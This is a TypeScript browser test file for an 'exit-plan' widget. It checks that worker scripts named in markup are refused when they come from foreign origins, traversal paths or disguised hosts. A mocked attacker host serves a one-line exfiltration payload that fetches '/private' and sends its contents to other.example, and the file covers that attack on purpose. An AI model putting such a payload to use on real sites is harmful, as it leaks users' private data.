// `<exit-plan worker="...">` is markup, and a worker runs with the page's origin: a URL from
// markup is loaded only from under the widget script's own folder, or from a prefix the page
// allowed in script (ExitPlan.allowEngineUrls). A foreign script is never even requested.
import fs from 'node:fs';
import path from 'node:path';
import type { BrowserContext } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { openBarePage, ROOT, serverAndBrowser, snapshot, watchErrors } from './widget-harness.js';

const env = serverAndBrowser();

const PLAN = `src="/data/spy_daily_1999-2020.csv" side="long" entry="last" stop="2%" ladder="1R:50"`;
const WORKER = fs.readFileSync(path.join(ROOT, 'dist/widget/exitplan-engine-worker.js'), 'utf8');

/** Serves a script at other.example (the attacker's) and the real engine at cdn.example; records requests. */
function foreignHosts(requested: string[]) {
  return async (context: BrowserContext) => {
    await context.route('https://other.example/**', (route) => {
      requested.push(route.request().url());
      return route.fulfill({
        contentType: 'text/javascript',
        headers: { 'access-control-allow-origin': '*' },
        body: `fetch('/private').then(r => r.text()).then(t => fetch('https://other.example/leak?' + t));`,
      });
    });
    await context.route('https://cdn.example/**', (route) => {
      requested.push(route.request().url());
      return route.fulfill({
        contentType: 'text/javascript',
        headers: { 'access-control-allow-origin': '*' },
        body: WORKER,
      });
    });
  };
}

describe('where markup may load the engine from', () => {
  it('refuses a cross-origin worker attribute without requesting it, and says what to do', async () => {
    const requested: string[] = [];
    const page = await openBarePage(
      env.browser,
      env.base,
      `<exit-plan id="w" worker="https://other.example/w.js" ${PLAN}></exit-plan>`,
      '',
      foreignHosts(requested),
    );
    const s = await snapshot(page, '#w');
    expect(s.error).toContain(
      'worker="https://other.example/w.js" is not where this widget\'s script came from',
    );
    expect(s.error).toContain("ExitPlan.allowEngineUrls(['https://other.example/'])");
    await page.waitForTimeout(500);
    expect(requested).toEqual([]);
    expect(page.workers()).toHaveLength(0);
    await page.context().close();
  });

  it('refuses a path that leaves the widget folder (../), and one on another origin dressed as a prefix', async () => {
    for (const worker of [
      '/widget/../test/w.js',
      `${env.base}/widget@other.example/w.js`,
      'https://other.example/widget/w.js',
    ]) {
      const requested: string[] = [];
      const page = await openBarePage(
        env.browser,
        env.base,
        `<exit-plan id="w" worker="${worker}" ${PLAN}></exit-plan>`,
        '',
        foreignHosts(requested),
      );
      const s = await snapshot(page, '#w');
      expect(s.error, worker).toContain('is not where this widget');
      expect(requested).toEqual([]);
      await page.context().close();
    }
  });

  it("uses a worker from the widget script's own folder", async () => {
    const page = await openBarePage(
      env.browser,
      env.base,
      `<exit-plan id="w" worker="/widget/exitplan-engine-worker.js" ${PLAN}></exit-plan>`,
    );
    const errors = watchErrors(page);
    const s = await snapshot(page, '#w');
    expect(s.error).toBeNull();
    expect(s.mode).toBe('worker');
    expect(errors).toEqual([]);
    await page.context().close();
  });

  it('uses a CDN folder the page allowed in script, and still not another one', async () => {
    const requested: string[] = [];
    const page = await openBarePage(
      env.browser,
      env.base,
      `<script>ExitPlan.allowEngineUrls(['https://cdn.example/exitplan/'])</script>
       <exit-plan id="ok" worker="https://cdn.example/exitplan/exitplan-engine-worker.js" ${PLAN}></exit-plan>
       <exit-plan id="no" worker="https://other.example/exitplan/w.js" ${PLAN}></exit-plan>`,
      '',
      foreignHosts(requested),
    );
    const ok = await snapshot(page, '#ok');
    expect(ok.error).toBeNull();
    expect(ok.mode).toBe('worker');
    expect((await snapshot(page, '#no')).error).toContain('is not where this widget');
    // The engine and its comparison twin each start a worker from the allowed folder; nothing else is asked for.
    expect([...new Set(requested)]).toEqual(['https://cdn.example/exitplan/exitplan-engine-worker.js']);
    await page.context().close();
  });
});
